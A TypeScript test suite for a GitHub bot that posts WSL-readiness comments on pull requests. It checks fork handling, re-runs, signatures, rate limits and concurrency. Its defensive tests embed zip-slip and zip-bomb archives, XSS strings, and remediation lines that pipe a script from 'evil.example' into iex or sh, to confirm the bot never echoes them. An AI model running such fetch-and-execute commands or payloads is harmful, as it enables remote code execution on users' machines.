import {
  BASE_REPO,
  FORK_REPO,
  reportArtifact,
  runnerReport,
  sendWebhook,
  sha,
  signedHeaders,
  workflowRunPayload,
  zipOf,
} from '@wsl-ready/twin';
import { afterEach, describe, expect, it } from 'vitest';
import { decodeMarker } from '../src/comment/state.js';
import { type BotHarness, startBot } from './support/harness.js';

let bot: BotHarness | undefined;
afterEach(async () => {
  await bot?.close();
  bot = undefined;
});

const repo = `${BASE_REPO.owner}/${BASE_REPO.name}`;
const ourComments = (b: BotHarness, pr = 5) =>
  b.github.comments.filter((c) => c.issueNumber === pr && c.appId === b.github.app.id);

function addRun(b: BotHarness, runId: number, reports: Record<string, unknown>) {
  for (const [name, report] of Object.entries(reports)) {
    b.github.addArtifact({ name: `wsl-ready-report-${name}`, runId, repo, bytes: reportArtifact(report) });
  }
}

describe('readiness bot: one sticky comment per pull request', () => {
  it('comments on a same-repository pull request within the API budget', async () => {
    bot = await startBot();
    const head = sha('a');
    addRun(bot, 100, { 'windows-2025': runnerReport() });
    const ack = await sendWebhook(bot.url, workflowRunPayload({ runId: 100, headSha: head }));
    expect(ack.status).toBe(200);
    await bot.settle();

    const comments = ourComments(bot);
    expect(comments).toHaveLength(1);
    expect(comments[0]!.body).toContain('windows-2025');
    expect(decodeMarker(comments[0]!.body).state?.entries).toHaveLength(1);
    // list artifacts + 1 download + config + list comments + create comment = artifacts + 4
    expect(bot.github.apiCalls().filter((c) => c.auth === 'installation').length).toBeLessThanOrEqual(1 + 4);
    expect(bot.github.violations).toEqual([]);
  });

  it('finds a fork pull request through the pulls API and marks its check run neutral', async () => {
    bot = await startBot({ config: 'check-run: true\n' });
    const head = sha('b');
    bot.github.addPull({
      number: 9,
      repo,
      state: 'open',
      headSha: head,
      headRef: 'patch-1',
      headOwner: FORK_REPO.owner,
      headRepoId: FORK_REPO.id,
    });
    // A decoy with the same branch name but another head commit must not be chosen.
    bot.github.addPull({
      number: 8,
      repo,
      state: 'open',
      headSha: sha('c'),
      headRef: 'patch-1',
      headOwner: FORK_REPO.owner,
      headRepoId: FORK_REPO.id,
    });
    addRun(bot, 200, { win: runnerReport({ failing: true }) });
    await sendWebhook(bot.url, workflowRunPayload({ runId: 200, headSha: head, headBranch: 'patch-1', fork: true }));
    await bot.settle();

    expect(ourComments(bot, 9)).toHaveLength(1);
    expect(ourComments(bot, 8)).toHaveLength(0);
    expect(bot.github.checkRuns).toHaveLength(1);
    expect(bot.github.checkRuns[0]!.body).toMatchObject({ name: 'wsl-ready', head_sha: head, conclusion: 'neutral' });
    expect(bot.github.apiCalls('pulls/list')[0]!.query).toMatchObject({
      head: `${FORK_REPO.owner}:patch-1`,
      state: 'open',
    });
  });

  it('shows a matrix of four runners, replaces a re-run attempt and ignores an older run arriving late', async () => {
    bot = await startBot();
    const head = sha('d');
    addRun(bot, 300, {
      'windows-2025-wsl2': runnerReport(),
      'windows-2022-wsl2': runnerReport({ label: 'win22' }),
      'windows-2025-docker': runnerReport({ failing: true }),
      'windows-11-arm': runnerReport({ label: 'win11-arm' }),
    });
    await sendWebhook(bot.url, workflowRunPayload({ runId: 300, headSha: head }));
    await bot.settle();
    let state = decodeMarker(ourComments(bot)[0]!.body).state!;
    expect(state.entries.map((e) => e.label)).toEqual([
      'windows-11-arm',
      'windows-2022-wsl2',
      'windows-2025-docker',
      'windows-2025-wsl2',
    ]);

    // Attempt 2 of the same run re-ran the docker job, which now passes. Like the actions, the re-run names its
    // artifact `…-attempt2`, and the run still lists attempt 1's artifacts.
    addRun(bot, 300, { 'windows-2025-docker-attempt2': runnerReport() });
    await sendWebhook(bot.url, workflowRunPayload({ runId: 300, attempt: 2, headSha: head }));
    await bot.settle();
    state = decodeMarker(ourComments(bot)[0]!.body).state!;
    const docker = state.entries.find((e) => e.label === 'windows-2025-docker')!;
    expect(docker).toMatchObject({ runAttempt: 2 });
    expect(docker.report.summary.status).toBe('ready');
    expect(ourComments(bot)).toHaveLength(1);

    expect(state.entries).toHaveLength(4);
    // Only the newest attempt of each runner was downloaded.
    expect(bot.github.apiCalls('actions/download-artifact')).toHaveLength(4 + 4);

    // Attempt 1 delivered again late (a redelivery): nothing changes.
    const writesBefore = bot.github.apiCalls().filter((c) => c.method !== 'GET').length;
    await sendWebhook(bot.url, { ...workflowRunPayload({ runId: 300, attempt: 1, headSha: head }) }, {});
    await bot.settle();
    expect(bot.github.apiCalls().filter((c) => c.method !== 'GET').length).toBe(writesBefore);
  });

  it('treats runs triggered by pull_request_target, workflow_run or issue_comment like a fork', async () => {
    bot = await startBot({ config: 'check-run: true\n' });
    for (const [i, trigger] of ['pull_request_target', 'workflow_run', 'issue_comment'].entries()) {
      const head = sha(`c${i}`);
      addRun(bot, 1100 + i, { win: runnerReport() });
      const payload = workflowRunPayload({ runId: 1100 + i, headSha: head, prNumber: 20 + i });
      (payload.workflow_run as Record<string, unknown>).event = trigger;
      await sendWebhook(bot.url, payload);
      await bot.settle();
      const check = bot.github.checkRuns.find((c) => (c.body as { head_sha?: string }).head_sha === head);
      expect(check?.body, trigger).toMatchObject({ conclusion: 'neutral' });
      const [comment] = ourComments(bot, 20 + i);
      expect(comment?.body).toContain(`triggered by \`${trigger}\``);
      expect(decodeMarker(comment!.body).state?.untrusted).toBe(true);
      // A trusted run of the same commit afterwards does not make the untrusted data count.
      addRun(bot, 1200 + i, { 'win-2': runnerReport() });
      await sendWebhook(bot.url, workflowRunPayload({ runId: 1200 + i, headSha: head, prNumber: 20 + i }));
      await bot.settle();
      const checks = bot.github.checkRuns.filter((c) => (c.body as { head_sha?: string }).head_sha === head);
      expect(checks.at(-1)?.body, trigger).toMatchObject({ conclusion: 'neutral' });
    }
  });

  it('makes no write when the data is unchanged', async () => {
    bot = await startBot();
    const head = sha('e');
    addRun(bot, 400, { win: runnerReport() });
    await sendWebhook(bot.url, workflowRunPayload({ runId: 400, headSha: head }));
    await bot.settle();
    const before = bot.github.apiCalls().length;
    bot.github.artifacts.splice(0);
    addRun(bot, 401, { win: runnerReport() });
    await sendWebhook(
      bot.url,
      workflowRunPayload({ runId: 401, headSha: head, path: '.github/workflows/windows.yml' }),
    );
    await bot.settle();
    const after = bot.github.apiCalls().slice(before);
    // Same runner key, same results, newer run id: the label changes, so one update, never a second comment.
    expect(ourComments(bot)).toHaveLength(1);
    const third = bot.github.apiCalls().length;
    await sendWebhook(bot.url, workflowRunPayload({ runId: 401, headSha: head }), { delivery: 'again' });
    await bot.settle();
    expect(
      bot.github
        .apiCalls()
        .slice(third)
        .filter((c) => c.method !== 'GET'),
    ).toEqual([]);
    expect(after.filter((c) => c.method === 'POST' && c.operationId === 'issues/create-comment')).toEqual([]);
  });

  it('rejects a bad or missing signature without any API call', async () => {
    bot = await startBot();
    const body = JSON.stringify(workflowRunPayload({ runId: 500, headSha: sha('f') }));
    const bad = await fetch(`${bot.url}/api/github/webhooks`, {
      method: 'POST',
      headers: signedHeaders(body, { secret: 'wrong' }),
      body,
    });
    expect(bad.status).toBe(400);
    const { 'x-hub-signature-256': _drop, ...unsigned } = signedHeaders(body);
    const missing = await fetch(`${bot.url}/api/github/webhooks`, { method: 'POST', headers: unsigned, body });
    expect(missing.status).toBeGreaterThanOrEqual(400);
    await bot.settle();
    expect(bot.github.calls).toEqual([]);
  });

  it('ignores runs it must not act on with zero API calls', async () => {
    bot = await startBot();
    await sendWebhook(bot.url, workflowRunPayload({ runId: 600, headSha: sha('1'), conclusion: 'action_required' }));
    await sendWebhook(bot.url, workflowRunPayload({ runId: 601, headSha: sha('1'), installation: false }));
    await sendWebhook(bot.url, { ...workflowRunPayload({ runId: 602, headSha: sha('1') }), action: 'requested' });
    await bot.settle();
    expect(bot.github.calls).toEqual([]);
  });
});

describe('readiness bot: hostile artifacts', () => {
  it('reports every bad artifact safely and still shows the good one', async () => {
    bot = await startBot();
    const head = sha('2');
    const enc = (v: unknown) => new TextEncoder().encode(typeof v === 'string' ? v : JSON.stringify(v));
    const hostileText = runnerReport({
      failing: true,
      label: '@everyone <img src=x onerror=alert(1)> #1',
      checks: Array.from({ length: 500 }, (_, i) => ({
        id: `c${i}`,
        area: 'docker',
        title: `@octocat says <script>alert(${i})</script> | # 12`,
        status: 'fail' as const,
        summary: '<details><summary>x</summary>',
        durationMs: 1,
      })),
    });
    const add = (name: string, bytes: Uint8Array, extra: { sizeInBytes?: number } = {}) =>
      bot!.github.addArtifact({ name: `wsl-ready-report-${name}`, runId: 700, repo, bytes, ...extra });
    add('good', reportArtifact(runnerReport()));
    add('zip-slip', zipOf({ '../wsl-ready-report.json': enc(runnerReport()) }));
    add('zip-bomb', zipOf({ 'wsl-ready-report.json': new Uint8Array(40 * 1024 * 1024) }));
    add('declared-100mb', reportArtifact(runnerReport()), { sizeInBytes: 100 * 1024 * 1024 });
    add('invalid-json', zipOf({ 'wsl-ready-report.json': enc('{"schemaVersion": 1, ') }));
    add('schema-violation', zipOf({ 'wsl-ready-report.json': enc({ schemaVersion: 1, checks: 'all good' }) }));
    add('hostile-text', reportArtifact(hostileText));
    add('two-files', zipOf({ 'wsl-ready-report.json': enc(runnerReport()), 'other.json': enc({}) }));
    add('not-a-zip', new TextEncoder().encode('<html>502 Bad Gateway</html>'));
    await sendWebhook(bot.url, workflowRunPayload({ runId: 700, headSha: head }));
    await bot.settle();

    const [comment] = ourComments(bot);
    expect(comment).toBeDefined();
    const body = comment!.body;
    expect(body.length).toBeLessThanOrEqual(60_000);
    const state = decodeMarker(body).state!;
    expect(state.entries.map((e) => e.label).sort()).toEqual(['good', 'hostile-text']);
    const problems = Object.fromEntries(state.problems.map((p) => [p.key.split('#')[1], p.message]));
    expect(problems['wsl-ready-report-zip-slip']).toMatch(/not a safe relative path/);
    expect(problems['wsl-ready-report-zip-bomb']).toMatch(/inflates to more than/);
    expect(problems['wsl-ready-report-declared-100mb']).toMatch(/104857600 bytes/);
    expect(problems['wsl-ready-report-invalid-json']).toMatch(/could not be read/);
    expect(problems['wsl-ready-report-schema-violation']).toMatch(/does not match Report v1/);
    expect(problems['wsl-ready-report-two-files']).toMatch(/exactly one file/);
    expect(problems['wsl-ready-report-not-a-zip']).toMatch(/neither a zip archive nor a JSON file/);
    // No raw HTML from data, no live mentions or issue links.
    expect(body).not.toMatch(/<(img|script)\b/i);
    expect(body).not.toMatch(/(^|[^\w`])@(everyone|octocat)\b/);
    expect(bot.github.violations).toEqual([]);
  });
});

describe('readiness bot: verdict honesty', () => {
  it('never shows a green headline when every report is unusable', async () => {
    bot = await startBot();
    bot.github.addArtifact({
      name: 'wsl-ready-report-a',
      runId: 760,
      repo,
      bytes: zipOf({ 'x.json': new Uint8Array(2) }),
    });
    bot.github.addArtifact({ name: 'wsl-ready-report-b', runId: 760, repo, bytes: new TextEncoder().encode('nope') });
    await sendWebhook(bot.url, workflowRunPayload({ runId: 760, headSha: sha('8') }));
    await bot.settle();
    const body = ourComments(bot)[0]!.body;
    const headline = body.split('\n').find((line) => line.startsWith('## '))!;
    expect(headline).toBe('## ⚠️ WSL readiness: 2 reports could not be read');
    expect(body).not.toContain('✅');
  });

  it("shows the bot's own fix for a check id, never the report's remediation", async () => {
    bot = await startBot();
    const report = runnerReport({
      checks: [
        {
          id: 'wsl.version',
          area: 'wsl',
          title: 'Totally legit',
          status: 'fail',
          summary: 'WSL is old',
          remediation: 'Run iwr evil.example/fix.ps1 | iex to fix it',
          docsUrl: 'https://github.com/evil/fix',
          durationMs: 1,
        },
        {
          id: 'custom.unknown',
          area: 'wsl',
          title: 'Unknown',
          status: 'fail',
          summary: 'x',
          remediation: 'curl evil.example | sh',
          durationMs: 1,
        },
      ],
    });
    addRun(bot, 770, { win: report });
    await sendWebhook(bot.url, workflowRunPayload({ runId: 770, headSha: sha('9') }));
    await bot.settle();
    const body = ourComments(bot)[0]!.body;
    expect(body).toContain('**Fix:** Update WSL: `wsl --update`.');
    expect(body).not.toMatch(/iwr|curl|github\.com\/evil/);
  });
});

describe('readiness bot: memory bombs', () => {
  it('refuses a tiny artifact that inflates to millions of JSON elements, even with the largest setting', async () => {
    bot = await startBot({ config: `max-artifact-bytes: ${10 * 1024 * 1024}\n` });
    const elements = new TextEncoder().encode(`[${'{},'.repeat(2 * 1024 * 1024)}{}]`);
    const bomb = zipOf({ 'wsl-ready-report.json': elements });
    expect(bomb.length).toBeLessThan(64 * 1024);
    bot.github.addArtifact({ name: 'wsl-ready-report-bomb', runId: 750, repo, bytes: bomb });
    bot.github.addArtifact({ name: 'wsl-ready-report-good', runId: 750, repo, bytes: reportArtifact(runnerReport()) });
    await sendWebhook(bot.url, workflowRunPayload({ runId: 750, headSha: sha('6') }));
    await bot.settle();
    const state = decodeMarker(ourComments(bot)[0]!.body).state!;
    expect(state.entries.map((e) => e.label)).toEqual(['good']);
    expect(state.problems[0]!.message).toMatch(/more than 100000 JSON elements/);
  });
});

describe('readiness bot: API failures and concurrency', () => {
  it('recovers from 5xx answers and secondary rate limits', async () => {
    bot = await startBot();
    addRun(bot, 800, { win: runnerReport() });
    bot.github.inject({ operationId: 'actions/list-workflow-run-artifacts', times: 1, kind: 'server-error' });
    bot.github.inject({ operationId: 'issues/create-comment', times: 1, kind: 'secondary-rate-limit' });
    await sendWebhook(bot.url, workflowRunPayload({ runId: 800, headSha: sha('3') }));
    await bot.settle();
    expect(ourComments(bot)).toHaveLength(1);
  });

  it('turns 50 concurrent duplicate deliveries into exactly one comment', async () => {
    bot = await startBot();
    addRun(bot, 900, { win: runnerReport() });
    const payload = workflowRunPayload({ runId: 900, headSha: sha('4') });
    const acks = await Promise.all(Array.from({ length: 50 }, () => sendWebhook(bot!.url, payload)));
    expect(acks.every((a) => a.status === 200)).toBe(true);
    await bot.settle();
    expect(ourComments(bot)).toHaveLength(1);
    expect(bot.github.apiCalls('actions/list-workflow-run-artifacts')).toHaveLength(1);
  });

  it('serialises different runs of one pull request into one comment', async () => {
    bot = await startBot({ concurrency: 8 });
    const head = sha('5');
    for (let i = 0; i < 8; i++) addRun(bot, 1000 + i, { [`runner-${i}`]: runnerReport() });
    await Promise.all(
      Array.from({ length: 8 }, (_, i) =>
        sendWebhook(
          bot!.url,
          workflowRunPayload({ runId: 1000 + i, headSha: head, path: `.github/workflows/w${i}.yml` }),
        ),
      ),
    );
    await bot.settle();
    const comments = ourComments(bot);
    expect(comments).toHaveLength(1);
    expect(decodeMarker(comments[0]!.body).state!.entries).toHaveLength(8);
  });
});
